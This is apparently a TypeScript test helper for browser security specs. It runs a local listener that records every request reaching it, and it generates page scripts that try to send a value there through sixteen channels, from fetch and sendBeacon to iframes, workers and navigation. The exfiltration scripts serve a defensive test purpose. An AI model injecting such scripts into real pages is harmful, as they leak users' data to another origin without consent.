// A hostile listener on its own origin: records every request and WebSocket upgrade that reaches
// it (method, path, body), so a spec can assert that nothing did. And the page scripts that try
// to send a value there, one per way a page can make the browser talk to another origin.
import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";

export interface HostileListener {
  url: string;
  /** "METHOD /path body" of everything that arrived. */
  received: string[];
  /** Resolves at the first arrival. */
  firstArrival: Promise<string>;
  close(): Promise<void>;
}

export async function startHostileListener(): Promise<HostileListener> {
  const received: string[] = [];
  let arrived: (what: string) => void = () => undefined;
  const firstArrival = new Promise<string>((resolve) => (arrived = resolve));
  const record = (req: IncomingMessage, body: string) => {
    const line = `${req.method} ${req.url} ${body}`.trim();
    received.push(line);
    arrived(line);
  };
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (chunk: Buffer) => (body += chunk.toString("latin1")));
    req.on("end", () => {
      record(req, body);
      res.end("<p>thanks</p>");
    });
  });
  server.on("upgrade", (req, socket) => {
    record(req, "(WebSocket upgrade)");
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    received,
    firstArrival,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/**
 * Scripts that send `value` (a JavaScript expression) to the listener at `to`, each by one
 * channel. All are fire-and-forget, as an attacker's would be.
 */
export function exfiltrations(to: string, value: string): Record<string, string> {
  const q = `encodeURIComponent(${value})`;
  return {
    fetch: `fetch("${to}/fetch?v=" + ${q}, { mode: "no-cors" })`,
    "fetch body": `fetch("${to}/fetch-body", { method: "POST", body: ${value}, mode: "no-cors" })`,
    XMLHttpRequest: `{ const x = new XMLHttpRequest(); x.open("POST", "${to}/xhr"); x.send(${value}); }`,
    beacon: `navigator.sendBeacon("${to}/beacon", ${value})`,
    image: `new Image().src = "${to}/image?v=" + ${q}`,
    stylesheet: `{ const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${to}/style?v=" + ${q}; document.head.append(l); }`,
    prefetch: `{ const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${to}/prefetch?v=" + ${q}; document.head.append(l); }`,
    "event stream": `new EventSource("${to}/events?v=" + ${q})`,
    WebSocket: `{ const w = new WebSocket("${to.replace("http", "ws")}/socket"); w.onopen = () => w.send(${value}); }`,
    iframe: `{ const f = document.createElement("iframe"); f.src = "${to}/frame?v=" + ${q}; document.body.append(f); }`,
    "form with target=_blank": `{ const f = document.createElement("form"); f.method = "post"; f.action = "${to}/form"; f.target = "_blank"; const i = document.createElement("input"); i.name = "v"; i.value = ${value}; f.append(i); document.body.append(f); f.submit(); }`,
    "window.open": `window.open("${to}/popup?v=" + ${q})`,
    download: `{ const a = document.createElement("a"); a.href = "${to}/download?v=" + ${q}; a.download = "v.txt"; document.body.append(a); a.click(); }`,
    "dedicated worker": `new Worker(URL.createObjectURL(new Blob(['fetch("${to}/worker?v=" + ' + JSON.stringify(${q}) + ')'], { type: "text/javascript" })))`,
    "service worker": `navigator.serviceWorker.register("/sw.js?to=" + encodeURIComponent("${to}") + "&v=" + ${q})`,
    navigation: `location.href = "${to}/navigate?v=" + ${q}`,
  };
}

/** The service worker the "service worker" channel registers (served by the page's own origin). */
export const SERVICE_WORKER = `const params = new URL(location.href).searchParams;
fetch(params.get("to") + "/service-worker?v=" + encodeURIComponent(params.get("v")));`;
